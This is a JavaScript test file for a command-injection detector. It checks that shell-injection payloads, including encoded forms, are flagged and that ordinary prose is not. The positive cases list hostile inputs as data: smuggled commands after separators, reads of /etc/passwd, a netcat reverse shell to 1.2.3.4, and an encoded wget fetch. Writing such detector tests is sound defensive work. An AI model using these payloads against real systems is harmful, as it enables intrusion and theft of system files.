import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectCommandInjection } from '../../../src/detect/injection/command.js';
import { classifyQueryValue } from '../../../src/detect/injection/classify.js';

test('command injection positives', () => {
  for (const payload of ['; id', 'a|id', 'x && cat /etc/passwd', '`whoami`', '$(uname -a)', '127.0.0.1; ping -c 3 10.0.0.1', 'a;/usr/bin/id;', '| nc -e /bin/sh 1.2.3.4 4444', '/bin/sleep 31', 'ping.exe -n 3 127.0.0.1', 'x || dir c:\\']) {
    assert.notDeepEqual(detectCommandInjection(payload), [], payload);
  }
});

test('a line break is a command separator, and shell arithmetic echoes prove execution', () => {
  assert.ok(classifyQueryValue('x%0aid').rules.includes('command-after-separator'));
  assert.ok(classifyQueryValue('a%0d%0acat%20/etc/passwd').rules.includes('command-after-separator'));
  assert.ok(detectCommandInjection('echo abc$((9+40))abc').includes('command-arithmetic'));
  assert.deepEqual(detectCommandInjection('first line\nsecond line'), []);
});

test('command injection survives encoding', () => {
  for (const raw of ['%3B%20id', '%253Bwget%2520http%253A%252F%252Fx', '%7Ccat%20%2Fetc%2Fpasswd', '%60id%60']) {
    assert.ok(classifyQueryValue(raw).rules.some((r) => r.startsWith('command-')), raw);
  }
});

test('command injection negatives: prose with separators and command-like words', () => {
  for (const value of ['cats & dogs', 'a; b; c', 'tom|jerry', 'identity', 'echoes of the past', 'say $(hello)', 'price is $5', 'rock & roll', 'cat food']) {
    assert.deepEqual(detectCommandInjection(value), [], value);
  }
});
